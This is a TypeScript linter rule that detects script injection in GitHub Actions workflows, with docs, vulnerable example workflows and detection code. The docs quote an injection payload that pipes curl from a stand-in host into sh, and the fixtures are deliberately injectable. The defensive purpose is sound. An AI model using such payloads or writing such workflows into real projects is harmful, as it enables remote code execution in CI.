import { FileType } from '../../domain/file-type.ts';
import { fileCheck } from './check.ts';
import { resultContexts } from './workflow/expression.ts';
import type { Job, Scalar, Scalars, Step, Workflow } from './workflow/model.ts';
import { embedded, judgeWorkflow, type Remark } from './workflow/parse.ts';
import { isOfPullRequest, isUntrusted } from './workflow/untrusted.ts';

export const workflowScriptInjection = fileCheck({
  scope: 'file',
  id: 'workflow-script-injection',
  summary: 'A script into which a stranger can write commands',
  level: 'error',
  docs: `GitHub puts the value of \`\${{ … }}\` into a script before the shell reads it. Where the value is the title of an
issue or the name of a branch, whoever chooses it writes commands into the script: \`"; curl evil.example | sh; "\`.

Looked at are \`run\` and the \`script\` of \`actions/github-script\`, and in them the contexts that anybody can fill: titles,
bodies, messages, names and e-mail addresses of authors, head branches; also by way of \`env\`. Expressions that only
compare or test such a value are left alone. The level is a warning where the value exists in pull requests only and the
run has neither secrets nor a token that may write. Inputs of a composite action, and text inputs of a reusable workflow,
are a note, one for each script: it depends on who calls. Inputs of \`workflow_dispatch\` are left alone, only members can give them.

Hand the value over as a variable, and quote it: \`env: { TITLE: "\${{ github.event.issue.title }}" }\`, then \`"$TITLE"\`
in the shell or \`process.env.TITLE\` in JavaScript.`,
  source: 'https://docs.github.com/en/actions/concepts/security/script-injections',
  types: FileType.workflow,
  examples: () => [
    {
      title: 'a title in a shell, a branch in JavaScript, a message by way of a variable',
      files: {
        '.github/workflows/triage.yml': `on: [issues, pull_request_target, push]
env:
  MESSAGE: \${{ github.event.head_commit.message }}
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New:"
          echo "\${{ github.event.issue.title || 'none' }}"
      - uses: actions/github-script@v7
        with:
          script: console.log('\${{ github.head_ref }}')
      - run: echo "\${{ env.MESSAGE }}" "\${{ toJSON(github.event.issue) }}"
`,
      },
      findings: [10, 13, 14, 14].map((line) => `.github/workflows/triage.yml:${line}`),
    },
    {
      title: 'the inputs of a composite action',
      files: {
        'greet/action.yml': `inputs:
  name:
    description: Who
runs:
  using: composite
  steps:
    - run: echo "\${{ inputs.name }}"
      shell: bash
`,
      },
      findings: ['greet/action.yml:7'],
    },
    {
      title: 'values as variables, comparisons, numbers, and inputs that members give',
      files: {
        '.github/workflows/triage.yml': `on:
  issues:
  workflow_dispatch:
    inputs:
      name: { type: string }
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$TITLE" "\${{ contains(github.event.issue.title, 'bug') }}" "\${{ github.event.issue.number }}"
        env:
          TITLE: \${{ github.event.issue.title }}
      - run: echo "\${{ github.event.issue.title == 'x' && 'yes' || 'no' }}" "\${{ inputs.name }}"
`,
      },
      findings: [],
    },
  ],
  run(file, report) {
    return judgeWorkflow(file, report, judge);
  },
});

function* judge(workflow: Workflow, text: string): Generator<Remark> {
  for (const job of workflow.jobs) {
    for (const step of job.steps) {
      for (const script of scripts(step)) {
        let noted = false;
        for (const { expression, start, end } of embedded(text, script)) {
          const contexts = resultContexts(expression).flatMap((context) => [
            context,
            ...ofVariable(context, [step, job, workflow], text),
          ]);
          const remark = judgeContexts(contexts, workflow);
          if (remark === undefined || (remark.level === 'note' && noted)) continue;
          noted ||= remark.level === 'note';
          yield { start, end, ...remark };
        }
      }
    }
  }
}

function scripts({ uses, run, with: inputs }: Step): readonly Scalar[] {
  const script = /^actions\/github-script@/i.test(uses?.value ?? '') ? inputs.get('script') : undefined;
  return [run, script].filter((scalar) => scalar !== undefined);
}

/** The contexts in the variable that `env.NAME` stands for: the innermost of that name. */
function ofVariable(context: string, scopes: readonly Pick<Job, 'env'>[], text: string): readonly string[] {
  const name = context.match(/^env\.(.+)$/)?.[1];
  if (name === undefined) return [];
  const value = scopes.map(({ env }: { env: Scalars }) => env.get(name)).find((scalar) => scalar !== undefined);
  return value === undefined ? [] : [...embedded(text, value)].flatMap(({ expression }) => resultContexts(expression));
}

function judgeContexts(contexts: readonly string[], workflow: Workflow): Pick<Remark, 'message' | 'level'> | undefined {
  const found = contexts.find(isUntrusted);
  if (found !== undefined) {
    const privileged = ['pull_request_target', 'workflow_call'].some((event) => workflow.triggers.has(event));
    const harmless = workflow.kind === 'workflow' && isOfPullRequest(found) && !privileged;
    const message = `whoever chooses \`${found}\` can write commands into this script; hand it over in \`env\``;
    return { message, level: harmless ? 'warning' : 'error' };
  }
  const input = contexts.find((context) => context.startsWith('inputs.') && workflow.textInputs.has(context.slice(7)));
  if (input === undefined) return undefined;
  return {
    message: `whoever fills \`${input}\` can write commands into this script; hand it over in \`env\``,
    level: 'note',
  };
}
